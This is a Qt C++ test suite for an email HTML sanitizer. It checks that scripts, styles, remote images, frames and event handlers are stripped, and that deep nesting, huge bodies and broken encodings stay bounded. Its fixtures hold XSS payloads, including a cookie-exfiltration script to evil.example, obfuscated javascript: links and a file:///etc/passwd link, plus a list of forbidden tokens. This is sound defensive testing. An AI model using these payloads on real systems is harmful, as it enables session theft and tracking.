// SPDX-License-Identifier: GPL-3.0-or-later
// Email HTML made safe: whatever could load or run something is gone, the text and basic formatting stay,
// and plain text and transcripts become rich text with the driving words marked. Hostile structure (deep
// nesting, unclosed elements, huge bodies, broken encodings) gives a bounded result with its text kept.

#include "text/HighlightedText.h"
#include "text/HtmlSanitizer.h"

#include <QtTest>

using namespace dp;

namespace {

// The malicious email of the HTML safety tests: every way an email could try to load or run something.
const QString kHostileEmail = QStringLiteral(
    "<html><head><title>Offer</title><style>body { background: url(http://evil.example/bg.png) }</style>"
    "<link rel=stylesheet href=http://evil.example/s.css><script src=http://evil.example/x.js></script>"
    "</head><body onload=\"steal()\">"
    "<p style=\"background-image: url('http://evil.example/track.gif')\">Hi Alison, the <b>budget</b> is "
    "approved.</p>"
    "<script>document.location='http://evil.example/?c='+document.cookie</script>"
    "<img src=\"http://evil.example/pixel.gif\" width=1 height=1>"
    "<img src=https://evil.example/logo.png alt=\"Acme logo\">"
    "<iframe src=\"http://evil.example/frame\">Frame text</iframe>"
    "<object data=http://evil.example/x.swf>Object text</object><embed src=http://evil.example/y.swf>"
    "<a href=\"javascript:alert(1)\">Click me</a> "
    "<a href=\"jav&#x09;ascript&#58;alert(2)\">Or me</a> "
    "<a href=\"https://acme.example/contract\" onclick=\"steal()\">the contract</a>"
    "<div onmouseover=\"steal()\">Regards, Dana</div>"
    "<svg><script>alert(3)</script></svg><form action=http://evil.example><input value=x></form>"
    "</body></html>");

QString repeated(const char *piece, int times) {
    return QString::fromLatin1(piece).repeated(times);
}

// The rich text without the empty <div>s that end a flattened block.
QString withoutBreaks(QString html) {
    return html.remove(QLatin1String("<div></div>"));
}

// Counts the rich text's tags named `tag` ("<table" also counts "<table>" and "<table align=…>").
qsizetype tags(const QString &withBreaks, const char *tag) {
    const QString html = withoutBreaks(withBreaks);
    return html.count(QLatin1Char('<') + QLatin1String(tag) + QLatin1Char('>')) +
           html.count(QLatin1Char('<') + QLatin1String(tag) + QLatin1Char(' '));
}

// How deep the rich text's elements are inside each other.
int nesting(const QString &withBreaks) {
    const QString html = withoutBreaks(withBreaks);
    int depth = 0;
    int deepest = 0;
    for (qsizetype i = html.indexOf(QLatin1Char('<')); i >= 0; i = html.indexOf(QLatin1Char('<'), i + 1)) {
        if (html.sliced(i).startsWith(QLatin1String("</")))
            --depth;
        else if (!html.sliced(i).startsWith(QLatin1String("<br>")) &&
                 !html.sliced(i).startsWith(QLatin1String("<hr>")))
            deepest = std::max(deepest, ++depth);
    }
    return deepest;
}

} // namespace

class TestHtmlSanitizer : public QObject {
    Q_OBJECT

private slots:
    void removesEverythingThatLoadsOrRuns() {
        const QString safe = sanitizeEmailHtml(kHostileEmail);
        for (const char *forbidden :
             {"<script", "<style",  "<iframe",     "<object",    "<embed",      "<img",
              "<link",   "<svg",    "<form",       "<input",     "url(",        "javascript",
              "onload",  "onclick", "onmouseover", "style=",     "src=",        "evil.example",
              "steal",   "alert",   "cookie",      "Frame text", "Object text", "<title"})
            QVERIFY2(!safe.contains(QLatin1String(forbidden), Qt::CaseInsensitive), forbidden);
    }

    void keepsTheTextAndBasicFormatting() {
        const QString safe = sanitizeEmailHtml(kHostileEmail);
        QVERIFY(safe.contains(QLatin1String("<b>budget</b>")));
        QVERIFY(safe.contains(QLatin1String("<a href=\"https://acme.example/contract\">the contract</a>")));
        QVERIFY(safe.contains(QLatin1String("[Acme logo]"))); // an image's description stands in for it
        const QString text = htmlToPlainText(kHostileEmail);
        QVERIFY(text.contains(QLatin1String("Hi Alison, the budget is approved.")));
        QVERIFY(text.contains(QLatin1String("Click me")));
        QVERIFY(text.contains(QLatin1String("Or me")));
        QVERIFY(text.contains(QLatin1String("Regards, Dana")));
        QVERIFY(!text.contains(QLatin1String("Offer"))); // the head is not content
    }

    void linksOnlyToWebAndMail_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<bool>("linked");
        QTest::newRow("https") << QStringLiteral("<a href=\"https://a.example/\">x</a>") << true;
        QTest::newRow("mailto") << QStringLiteral("<a href='mailto:dana@acme.example'>x</a>") << true;
        QTest::newRow("javascript") << QStringLiteral("<a href=\"JavaScript:alert(1)\">x</a>") << false;
        QTest::newRow("entity colon")
            << QStringLiteral("<a href=\"javascript&colon;alert(1)\">x</a>") << false;
        QTest::newRow("leading space") << QStringLiteral("<a href=\"  javascript:alert(1)\">x</a>") << false;
        QTest::newRow("vbscript") << QStringLiteral("<a href=vbscript:msgbox>x</a>") << false;
        QTest::newRow("data") << QStringLiteral("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")
                              << false;
        QTest::newRow("file") << QStringLiteral("<a href=\"file:///etc/passwd\">x</a>") << false;
    }
    void linksOnlyToWebAndMail() {
        QFETCH(QString, html);
        QFETCH(bool, linked);
        const QString safe = sanitizeEmailHtml(html);
        QCOMPARE(safe.contains(QLatin1String("<a ")), linked);
        QCOMPARE(htmlToPlainText(html), QStringLiteral("x"));
    }

    void survivesBrokenMarkup() {
        // Unclosed tags, a lone '<', an unterminated comment and attribute: nothing leaks, text stays.
        QCOMPARE(htmlToPlainText(u"<b>1 < 2 <i>and 3 > 2"), QStringLiteral("1 < 2 and 3 > 2"));
        QCOMPARE(sanitizeEmailHtml(u"<b>bold<i>both</b>"), QStringLiteral("<b>bold<i>both</i></b>"));
        QVERIFY(!sanitizeEmailHtml(u"ok<!-- <script>alert(1)</script>").contains(QLatin1String("script")));
        QVERIFY(!sanitizeEmailHtml(u"<script>alert(1)").contains(QLatin1String("alert")));
        QVERIFY(!sanitizeEmailHtml(u"<img src=\"http://evil.example/x").contains(QLatin1String("evil")));
        QVERIFY(!sanitizeEmailHtml(u"<SCRIPT>alert(1)</SCRIPT >after").contains(QLatin1String("alert")));
        QVERIFY(sanitizeEmailHtml(u"<SCRIPT>alert(1)</SCRIPT >after").contains(QLatin1String("after")));
        QCOMPARE(sanitizeEmailHtml(u"Fish &amp; chips &lt;b&gt; &copy; &bogus;"),
                 QStringLiteral("Fish &amp; chips &lt;b&gt; \u00a9 &amp;bogus;"));
    }

    // Marketing mail nests tables 10–30 deep; Qt's layout of nested tables grows exponentially with depth
    // (30 levels froze the window for over a minute). Deeper tables are flattened, every level's text stays.
    void nestedTablesAreFlattenedWithTheirText_data() {
        QTest::addColumn<int>("levels");
        for (const int levels : {10, 15, 18, 20, 30, 40})
            QTest::addRow("%d", levels) << levels;
    }
    void nestedTablesAreFlattenedWithTheirText() {
        QFETCH(int, levels);
        QString html;
        for (int level = 1; level <= levels; ++level)
            html += QStringLiteral("<table><tr><td>level%1 ").arg(level);
        html += QStringLiteral("deep text");
        const QString safe = sanitizeEmailHtml(html);
        QVERIFY2(tags(safe, "table") <= 4, qPrintable(safe));
        QVERIFY(safe.size() < 4000);
        for (int level = 1; level <= levels; ++level)
            QVERIFY2(safe.contains(QRegularExpression(QStringLiteral("level%1\\b").arg(level))),
                     qPrintable(safe));
        QVERIFY(safe.contains(QLatin1String("deep text")));
        QVERIFY(htmlToPlainText(safe).contains(QStringLiteral("level%1 deep text").arg(levels)));
    }

    void deepNestingIsFlattenedNotDropped() {
        QString html;
        for (int level = 1; level <= 200; ++level)
            html += QStringLiteral("<div><blockquote>d%1 ").arg(level);
        const QString safe = sanitizeEmailHtml(html);
        QVERIFY(tags(safe, "div") + tags(safe, "blockquote") <= 32);
        QVERIFY(nesting(safe) <= 32);
        for (int level = 1; level <= 200; ++level)
            QVERIFY(safe.contains(QRegularExpression(QStringLiteral("d%1\\b").arg(level))));
    }

    // 40,000 unclosed <b> left nested take Qt about 45 s to lay out, and the parser is quadratic in depth.
    void fortyThousandUnclosedBold() {
        const QString safe = sanitizeEmailHtml(repeated("<b>", 40'000) + QStringLiteral("bold end"));
        QVERIFY(safe.contains(QLatin1String("bold end")));
        QVERIFY(tags(safe, "b") <= 32);
        QCOMPARE(nesting(safe), 32);
        QVERIFY(safe.size() < 1000);
    }

    // Inputs that make an HTML5 parser's stack deep without nesting tags in the source: the guard in front of
    // it (HtmlGuard) keeps them shallow, so they finish in linear time; their text stays.
    void parserStackStaysShallow_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QString>("text");
        QTest::addColumn<int>("times");
        QTest::newRow("unclosed div")
            << repeated("<div>", 20'000) + QStringLiteral("end") << QStringLiteral("end") << 1;
        QTest::newRow("form keeps div open")
            << repeated("<form><div></form>", 10'000) + QStringLiteral("end") << QStringLiteral("end") << 1;
        QTest::newRow("bold reconstructed")
            << repeated("<p><b></p>x", 10'000) << QStringLiteral("x") << 10'000;
        QTest::newRow("distinct formatting")
            << repeated("<div><b id=1><i id=2><u id=3></div>y", 5'000) << QStringLiteral("y") << 5'000;
        QTest::newRow("self-closed div after svg")
            << QStringLiteral("<svg><p>") + repeated("<div/>", 20'000) + QStringLiteral("end")
            << QStringLiteral("end") << 1;
        QTest::newRow("style in select") << QStringLiteral("<select><style></select>") +
                                                repeated("<div>", 20'000) + QStringLiteral("</style>z")
                                         << QStringLiteral("z") << 1;
        QTest::newRow("noscript first")
            << QStringLiteral("<noscript>") + repeated("<div>", 20'000) + QStringLiteral("end")
            << QStringLiteral("end") << 1;
    }
    void parserStackStaysShallow() {
        QFETCH(QString, html);
        QFETCH(QString, text);
        QFETCH(int, times);
        const QString safe = sanitizeEmailHtml(html);
        QVERIFY(safe.contains(text));
        QVERIFY(nesting(safe) <= 32);
        QCOMPARE(htmlToPlainText(html).count(text), times);
    }

    void decodesEveryNamedCharacterReference() {
        QCOMPARE(htmlToPlainText(u"&icirc;&acirc;&eacute;&Scaron; &notin; &rarr; &frac12; &hearts;"),
                 QStringLiteral("\u00ee\u00e2\u00e9\u0160 \u2209 \u2192 \u00bd \u2665"));
        QCOMPARE(sanitizeEmailHtml(u"<p>Cafe&#x301; r&acirc;ul &copy 2026</p>"),
                 QStringLiteral("<p>Cafe\u0301 r\u00e2ul \u00a9 2026</p>"));
    }

    // What the HTML5 algorithm does with an element left open to the end: a comment, <title>, <style>,
    // <textarea> or <select> takes the rest of the email as its (hidden) content and an <svg> makes it
    // SVG, so a browser would show little or nothing of it. A reader of mail wants the text, so an
    // element of these that never closes is ignored and the rest is read as HTML (HtmlGuard). <script> keeps
    // the browser's behaviour: what follows an unclosed script is code, and is not shown.
    void unclosedElementsDoNotSwallowTheRest_data() {
        QTest::addColumn<QString>("opener");
        for (const char *opener :
             {"<!--", "<!-- <b>bold</b>", "<title>", "<style>", "<textarea>", "<select>",
              "<select><option>One", "<svg>", "<svg><circle r=1>", "<math>", "<noscript>", "<xmp>",
              "<iframe>", "<noembed>", "<noframes>", "<template>"})
            QTest::newRow(opener) << QString::fromLatin1(opener);
    }
    void unclosedElementsDoNotSwallowTheRest() {
        QFETCH(QString, opener);
        const QString html =
            QStringLiteral("<p>Before</p>") + opener + QStringLiteral("<p>After it, <b>bold</b></p>");
        const QString safe = sanitizeEmailHtml(html);
        QVERIFY2(safe.contains(QLatin1String("Before")), qPrintable(safe));
        QVERIFY2(safe.contains(QLatin1String("After it, ")), qPrintable(safe));
        QVERIFY2(safe.contains(QLatin1String("<b>bold</b>")), qPrintable(safe));
        for (const char *forbidden : {"<title", "<style", "<svg", "<select", "<textarea", "<!--"})
            QVERIFY2(!safe.contains(QLatin1String(forbidden)), forbidden);
    }

    void closedHiddenElementsStayHidden() {
        const QString safe = sanitizeEmailHtml(
            u"<title>T</title><style>s{}</style><select><option>O</option></select><svg><text>S</text></svg>"
            u"<!-- C --><p>shown</p>");
        QCOMPARE(safe, QStringLiteral("<p>shown</p>"));
    }

    // A link's title became a rich-text tooltip; nothing but the target is kept.
    void linkTitlesAreNotKept() {
        QCOMPARE(sanitizeEmailHtml(u"<a href=\"https://a.example/\" title=\"<b>Bold</b> <img src=x>\">x</a>"),
                 QStringLiteral("<a href=\"https://a.example/\">x</a>"));
        QCOMPARE(
            sanitizeEmailHtml(u"<a href=https://a.example/ title=t><a href=https://b.example/>y</a></a>"),
            QStringLiteral("<a href=\"https://a.example/\">y</a>"));
    }

    void imagesBecomeTheirDescription() {
        const QString safe = sanitizeEmailHtml(
            u"<img src=\"file:///etc/passwd\" alt=\"Acme &amp; Co\"><img src=data:image/png;base64,AAAA>"
            u"<image src=qrc:/x.png alt=Old>");
        QCOMPARE(safe, QStringLiteral("[Acme &amp; Co][Old]"));
    }

    void bodyOverTheSizeCapIsCutBetweenWords() {
        QString html = QStringLiteral("<div><p><b>");
        for (int i = 0; i < 3000; ++i)
            html += QStringLiteral("word%1 ").arg(i);
        html += QStringLiteral("</b></p><p>last paragraph</p></div>");
        SanitizeOptions options;
        options.maxOutputChars = 2000;
        const SanitizedHtml result = sanitizeEmail(html, options);
        QVERIFY(result.truncated);
        QVERIFY(result.html.size() <= 2000 + 32);
        QVERIFY(result.html.startsWith(QLatin1String("<div><p><b>word0 word1 ")));
        QVERIFY2(result.html.endsWith(QLatin1String("</b></p></div>")), qPrintable(result.html.right(40)));
        // Nothing lost: what the rich text does not hold, the rest does, as plain text.
        const QString shown = htmlToPlainText(result.html);
        const QString lastShown = shown.split(QLatin1Char(' ')).last();
        QVERIFY(lastShown.startsWith(QLatin1String("word")));
        const int next = lastShown.sliced(4).toInt() + 1;
        QVERIFY2(result.rest.startsWith(QStringLiteral("word%1 ").arg(next)),
                 qPrintable(result.rest.left(40)));
        QVERIFY(result.rest.endsWith(QLatin1String("word2999\nlast paragraph")));
        QCOMPARE(sanitizeEmailHtml(html, options), result.html);

        options.maxOutputChars = 100'000;
        QVERIFY(!sanitizeEmail(html, options).truncated);
        QVERIFY(sanitizeEmail(html, options).rest.isEmpty());
    }

    // Qt lays out what a table holds again for every table around it: a big table, or a lot inside nested
    // ones, is flattened into lines instead, whatever it holds stays.
    void tablesOverTheBudgetAreFlattened() {
        const QString big = QStringLiteral("<table>") + repeated("<tr><td>a</td><td>b</td></tr>", 1'000) +
                            QStringLiteral("</table><table><tr><td>small</td></tr></table>");
        const SanitizedHtml result = sanitizeEmail(big);
        QVERIFY(!result.truncated);
        QCOMPARE(tags(result.html, "table"), 1); // the small one is kept
        QVERIFY(result.html.contains(QLatin1String("<td>small</td>")));
        QCOMPARE(result.html.count(QLatin1String("a b<div></div>")), 1'000);

        QString nested = QStringLiteral("x ").repeated(2'000);
        for (int level = 0; level < 4; ++level)
            nested = QStringLiteral("<table><tr><td>") + nested + QStringLiteral("</td></tr></table>");
        const QString safe = sanitizeEmailHtml(nested);
        QVERIFY(tags(safe, "table") < 4); // 4,000 characters 4 deep cost 60,000
        QCOMPARE(safe.count(QLatin1String("x ")), 2'000 - 1);
    }

    void longWordsCanWrap() {
        const QString safe =
            sanitizeEmailHtml(QStringLiteral("<p>") + repeated("x", 1'000) + QStringLiteral("</p>"));
        QCOMPARE(safe.count(QChar(0x200b)), 5);
        QCOMPARE(safe.size(), 7 + 1'000 + 5);
        // A paragraph too long to lay out quickly is cut into blocks, at spaces.
        const QString blocks =
            sanitizeEmailHtml(QStringLiteral("<p>") + repeated("word ", 8'000) + QStringLiteral("</p>"));
        QVERIFY(blocks.count(QLatin1String("<div></div>")) >= 7);
        QCOMPARE(blocks.count(QLatin1String("word")), 8'000);
        const QString lines = sanitizeEmailHtml(repeated("line<br>", 1'500));
        QVERIFY(lines.count(QLatin1String("<div></div>")) >= 1);
        QCOMPARE(lines.count(QLatin1String("<br>")) + lines.count(QLatin1String("<div></div>")), 1'500);
        // Each line counts against the cap like a block: thousands of short lines are cut.
        const SanitizedHtml many = sanitizeEmail(repeated("ok<br>", 200'000));
        QVERIFY(many.truncated);
        QVERIFY2(many.html.count(QLatin1String("<br>")) < 2'000,
                 qPrintable(QString::number(many.html.size())));
        QCOMPARE(sanitizeEmailHtml(u"<p>short words stay as they are</p>"),
                 QStringLiteral("<p>short words stay as they are</p>"));
    }

    void survivesBrokenEncoding() {
        const QString broken = QString::fromUtf8("ok \xff\xfe<b>\xc3 broken \xed\xa0\x80 <i>end\xf0\x9f");
        const QString safe = sanitizeEmailHtml(broken);
        QVERIFY(safe.startsWith(QLatin1String("ok ")));
        QVERIFY(safe.contains(QLatin1String(" broken ")));
        QVERIFY(safe.contains(QLatin1String("<i>end")));
        QString lone = QStringLiteral("a");
        lone += QChar(0xd800);
        lone += QStringLiteral("<b>b</b>");
        lone += QChar(0xdc00);
        lone += QChar(0);
        lone += QStringLiteral("c");
        const QString safeLone = sanitizeEmailHtml(lone);
        QVERIFY(safeLone.startsWith(QLatin1String("a")));
        QVERIFY(safeLone.contains(QLatin1String("<b>b</b>")));
        QVERIFY(safeLone.endsWith(QLatin1String("c")));
    }

    void hugeAttributesAreDropped() {
        const QString html = QStringLiteral("<a href=\"https://a.example/") + repeated("a", 100'000) +
                             QStringLiteral("\">long link</a><p title=\"") + repeated("t", 100'000) +
                             QStringLiteral("\" align=center>text</p>");
        QCOMPARE(sanitizeEmailHtml(html), QStringLiteral("long link<p align=\"center\">text</p>"));
    }

    void marksWordsInHtml() {
        SanitizeOptions options;
        options.positiveWords = {QStringLiteral("approved")};
        options.negativeWords = {QStringLiteral("freeze")};
        const QString safe = sanitizeEmailHtml(u"<p>Budget <b>Approved</b>, no freeze.</p>", options);
        QCOMPARE(safe, QStringLiteral("<p>Budget <b><span class=\"pos\">Approved</span></b>, no "
                                      "<span class=\"neg\">freeze</span>.</p>"));
        // Terms learned from ratings are marked apart.
        options.learnedNegativeWords = {QStringLiteral("wobbly")};
        options.learnedPositiveWords = {QStringLiteral("pilot")};
        QCOMPARE(
            sanitizeEmailHtml(u"<p>Pilot: wobbly.</p>", options),
            QStringLiteral("<p><span class=\"lpos\">Pilot</span>: <span class=\"lneg\">wobbly</span>.</p>"));
    }

    // Dealpulse's own marks survive the caps only when asked for: an email cannot mark its own words.
    void marksAreKeptOnlyForOurOwnRichText() {
        const QString html =
            QStringLiteral("<div><span class=\"pos\" onclick=\"x\" style=\"color:red\">good</span> "
                           "<span class=\"neg\">bad</span> <span class=\"evil\">plain</span> "
                           "<span class=\"lneg\">learned</span></div>");
        QCOMPARE(sanitizeEmailHtml(html), QStringLiteral("<div>good bad plain learned</div>"));
        SanitizeOptions ours;
        ours.keepMarks = true;
        QCOMPARE(sanitizeEmailHtml(html, ours),
                 QStringLiteral("<div><span class=\"pos\">good</span> <span class=\"neg\">bad</span> "
                                "plain <span class=\"lneg\">learned</span></div>"));
    }

    void plainTextBecomesEscapedRichText() {
        const QString html = plainTextToHtml(u"Hi <Dana> & team,\nthis is great.",
                                             {{26, 5, 1.9}, {0, 2, -0.4}, {100, 3, -1.0}});
        QCOMPARE(html,
                 QStringLiteral("<div><span class=\"neg\">Hi</span> &lt;Dana&gt; &amp; team,<br>this is "
                                "<span class=\"pos\">great</span>.</div>"));
        QCOMPARE(plainTextToHtml(u"a wobbly plan", {{2, 6, -0.3, true}}),
                 QStringLiteral("<div>a <span class=\"lneg\">wobbly</span> plan</div>"));
    }

    void transcriptSpeakersAreBold() {
        const QString transcript =
            QStringLiteral("Dana Ortiz (Acme): We love it.\nAlison Engel (Brightlane): Great!");
        const qsizetype love = transcript.indexOf(QLatin1String("love"));
        const QString html = transcriptToHtml(transcript, {{love, 4, 2.0}});
        QCOMPARE(html,
                 QStringLiteral("<p><b>Dana Ortiz (Acme):</b> We <span class=\"pos\">love</span> it.</p>"
                                "<p><b>Alison Engel (Brightlane):</b> Great!</p>"));
    }
};

QTEST_APPLESS_MAIN(TestHtmlSanitizer)
#include "test_html_sanitizer.moc"
